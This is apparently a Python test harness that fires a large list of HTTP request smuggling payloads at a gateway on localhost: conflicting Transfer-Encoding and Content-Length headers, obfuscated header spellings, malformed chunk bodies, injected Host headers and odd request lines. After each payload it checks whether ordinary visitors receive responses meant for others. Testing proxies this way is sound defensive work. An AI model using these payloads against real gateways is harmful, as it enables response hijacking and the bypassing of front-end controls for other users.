"""Sends requests that two servers may read differently to a gateway, and looks whether anybody gets an answer that is not theirs.

Arguments: the kind of server behind, the address of the gateway, the port of the server. After each hostile request a visitor asks for a page of
his own, on a connection of his own, several times, so that every kept connection to the server comes to be used: the server says which path it was asked for.
"""

import itertools
import socket
import sys
import time

HOST = b"localhost"
NEXT = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\nX-Rest: "
SECONDS = 0.3


def request(lines, body=b"", method=b"POST", version=b"HTTP/1.1", target=b"/hostile", end=b"\r\n"):
    head = [b" ".join([method, target, version]), b"Host: " + HOST] + list(lines)
    return end.join(head) + end + end + body


def attacks():
    """Each with its name."""
    chunked_then_next = b"0\r\n\r\n" + NEXT
    # Two framings, whichever counts.
    codings = [
        b"Transfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:chunked",
        b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: chunked\x0b", b" Transfer-Encoding: chunked",
        b"X: X\nTransfer-Encoding: chunked", b"X: X\rTransfer-Encoding: chunked", b"Transfer-Encoding\r\n : chunked", b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: CHUNKED", b"Transfer_Encoding: chunked",
        b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked ", b"Transfer-Encoding:", b"Transfer-Encoding: chunk", b"TE: chunked",
        b"Transfer-Encoding: chunked\x00", b"\x00Transfer-Encoding: chunked", b"Transfer-Encoding: ch\xfcnked", b"Transfer\xadEncoding: chunked",
    ]
    for coding in codings:
        # What counts chunks sees the next request after five bytes; what counts bytes sees it within the body, and the other way round.
        length = str(len(chunked_then_next)).encode()
        yield "CL.TE " + repr(coding), request([b"Content-Length: " + length, coding], chunked_then_next)
        inner = NEXT + b"x\r\n\r\n"
        body = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
        short = str(len(b"%x\r\n" % len(inner))).encode()
        yield "TE.CL " + repr(coding), request([coding, b"Content-Length: " + short], body)
        yield "TE alone " + repr(coding), request([coding], chunked_then_next)
    # Lengths.
    lengths = [
        b"Content-Length: 5\r\nContent-Length: 0", b"Content-Length: 0\r\nContent-Length: 5", b"Content-Length: 5, 0", b"Content-Length: 0, 5", b"Content-Length: +5", b"Content-Length: -5",
        b"Content-Length: 0x5", b"Content-Length: 5_0", b"Content-Length: 5 0", b"Content-Length : 5", b" Content-Length: 5", b"Content-Length:\r\n 5",
        b"Content-Length: 5\x0b", b"Content-Length: \xd9\xa5", b"Content-Length: 18446744073709551621", b"Content-Length: 4294967301",
        b"Content-Length: 05", b"Content-Length:", b"Content_Length: 5", b"Content-Length: 5\r\nContent-Length: 5", b"Content-Length: 5;", b"Content-Length: 5.0", b"Content-Length: 1e1",
        b"X: X\nContent-Length: 5", b"X: X\rContent-Length: 5",
    ]
    for length in lengths:
        yield repr(length), request([length], b"hello" + NEXT)
        yield "GET " + repr(length), request([length], b"hello" + NEXT, method=b"GET")
    # Chunks.
    chunk = b"Transfer-Encoding: chunked"
    bodies = [
        b"5;ext\r\nhello\r\n0\r\n\r\n", b"5;ext=\"a\r\n\"\r\nhello\r\n0\r\n\r\n", b"5;ext\nhello\r\n0\r\n\r\n", b"5;\nxx\r\nhello\r\n0\r\n\r\n", b"5 ;a=b\r\nhello\r\n0\r\n\r\n",
        b"5;" + b"a" * 20000 + b"\r\nhello\r\n0\r\n\r\n", b"5\nhello\n0\n\n", b"5\rhello\r0\r\r", b"05\r\nhello\r\n0\r\n\r\n", b"0" * 40 + b"5\r\nhello\r\n0\r\n\r\n",
        b"0x5\r\nhello\r\n0\r\n\r\n", b"+5\r\nhello\r\n0\r\n\r\n", b"-5\r\nhello\r\n0\r\n\r\n", b"5_\r\nhello\r\n0\r\n\r\n", b" 5\r\nhello\r\n0\r\n\r\n", b"5 \r\nhello\r\n0\r\n\r\n",
        b"5\t\r\nhello\r\n0\r\n\r\n", b"5\r\nhelloXX0\r\n\r\n", b"5\r\nhello0\r\n\r\n", b"5\r\nhello\r\n\r\n0\r\n\r\n", b"100000005\r\nhello\r\n0\r\n\r\n",
        b"10000000000000005\r\nhello\r\n0\r\n\r\n", b"fffffffffffffffb\r\nhello\r\n0\r\n\r\n", b"g\r\nhello\r\n0\r\n\r\n", b"\r\n5\r\nhello\r\n0\r\n\r\n", b"5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
        b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", b"5\r\nhello\r\n0\r\nHost: evil.example\r\n\r\n", b"5\r\nhello\r\n0\r\nX: 1\n\n", b"5\r\nhello\r\n0\r\n X: 1\r\n\r\n",
        b"5\r\nhello\r\n0\r\nno colon\r\n\r\n", b"5\r\nhello\r\n0\n\r\n", b"5\r\nhello\r\n0;a\nb\r\n\r\n", b"5\r\nhello\r\n00\r\n\r\n", b"0\r\n\r\n0\r\n\r\n", b"5\r\nhello\r\n0 \r\n\r\n",
    ]
    for body in bodies:
        yield "chunks " + repr(body[:60]), request([chunk], body + NEXT)
    # The head: what is a line, and what is a hop's own affair.
    for line in [b"content-length", b"transfer-encoding", b"host", b"keep-alive, content-length", b"close, transfer-encoding", b"upgrade, http2-settings"]:
        yield "Connection " + repr(line), request([b"Connection: " + line, b"Content-Length: 5"], b"hello" + NEXT)
        yield "Connection and chunks " + repr(line), request([b"Connection: " + line, chunk], b"5\r\nhello\r\n0\r\n\r\n" + NEXT)
    for head in [
        b"Host: evil.example", b"Host : evil.example", b" Host: evil.example", b"X: 1\r\n folded", b"X: 1\r\n\tfolded: y", b"X\x00: 1", b"X: \x00", b"no colon", b": empty", b"X: 1\r\r\nY: 2", b"X: 1\n\rY: 2",
        b"Expect: 100-continue", b"Expect: 100-continue\r\nContent-Length: 5", b"Expect: x", b"Upgrade: h2c\r\nConnection: upgrade, http2-settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        b"Upgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", b"X: \x85", b"X: 1\x0cY: 2", b"\xef\xbb\xbfX: 1",
    ]:
        yield "head " + repr(head[:60]), request([head, b"Content-Length: 5"], b"hello" + NEXT)
        yield "head, no body " + repr(head[:60]), request([head], NEXT, method=b"GET")
    for version in [b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"http/1.1", b"HTTP/1.1 ", b"HTTP/01.1", b"HTTP/1.1\x00", b""]:
        yield "version " + repr(version), request([chunk], b"0\r\n\r\n" + NEXT, version=version)
    for target in [b"/hostile HTTP/1.1\r\nX: 1\r\n\r\nGET /smuggled", b"/hostile\x00", b"/hostile\tx", b"/hostile#x", b"http://localhost/hostile", b"http://evil.example/hostile", b"*", b"hostile", b"//evil.example/hostile", b"/%0d%0a%0d%0aGET%20/smuggled", b"/hos\x0btile", b"/\xff"]:
        yield "target " + repr(target), request([b"Content-Length: 5"], b"hello" + NEXT, target=target)
    for method in [b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"CONNECT", b"get", b"G\x00T", b"PRI", b"GET\t", b"\r\n\r\nGET", b" GET"]:
        yield "method " + repr(method), request([b"Content-Length: 5"], b"hello" + NEXT, method=method)
        yield "method, chunks " + repr(method), request([chunk], b"5\r\nhello\r\n0\r\n\r\n" + NEXT, method=method)
    for end in [b"\n", b"\r", b"\n\r"]:
        yield "ends " + repr(end), request([b"Content-Length: 5"], b"hello" + NEXT, end=end)


def say(address, data, patience):
    """What comes for these bytes until the other side hangs up or is silent."""
    come = b""
    with socket.create_connection(address, timeout=10) as wire:
        wire.sendall(data)
        wire.settimeout(patience)
        try:
            while piece := wire.recv(65536):
                come += piece
        except (TimeoutError, ConnectionError):
            pass
    return come


def own_page(address, number):
    """Asks for a page, and says which one the server was asked for."""
    path = f"/visitor-{number}"
    answer = say(address, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode(), 10)
    head = answer.split(b"\r\n\r\n")[0].decode("latin-1").lower()
    asked = [line.split(":", 1)[1] for line in head.split("\r\n") if line.startswith("x-asked:")]
    status = int(head.split(" ")[1]) if " " in head else 0
    return status == 200 and len(asked) == 1 and path in asked[0], head


def until_up(port):
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    sys.exit(f"nothing listens on port {port}")


def main():
    kind, gateway, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    name, gate = gateway.rsplit(":", 1)
    address = (name, int(gate))
    until_up(port)
    numbers = itertools.count()
    tried, wrong = 0, []
    assert own_page(address, next(numbers))[0], "a visitor is served before anything was tried"
    for attack, data in attacks():
        tried += 1
        say(address, data, SECONDS)
        for _ in range(2):
            right, head = own_page(address, next(numbers))
            if not right:
                wrong.append((attack, head))
    for attack, head in wrong:
        print(f"{kind}: after {attack} a visitor got {head!r}", file=sys.stderr)
    print(f"{kind} behind the gateway: {tried} requests tried, {len(wrong)} visitors got what was not theirs")
    sys.exit(1 if wrong else 0)


main()
